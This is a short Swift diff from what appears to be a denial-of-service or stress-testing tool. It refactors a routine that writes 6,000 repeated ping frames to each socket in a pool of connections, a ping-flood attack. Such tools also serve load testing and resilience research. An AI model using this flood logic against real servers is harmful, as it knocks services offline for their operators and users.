@@ -10,9 +10,6 @@ extension AttackContext {
     let lot = 6_000
     let ping = AttackBytes.frame(.ping, [0x70, 0x70])
     let pings = Array(repeatElement(ping, count: lot).joined())
-    paceAttack(lot: lot) { [self] in
-      guard let (_, socket) = fleet.next(of: attack.facts.connections) else { return }
-      if socket.write(pings) { account.attempts += lot }
-    }
+    paceAttack(lot: lot, fleet) { socket, _ in socket.write(pings) }
   }
 }
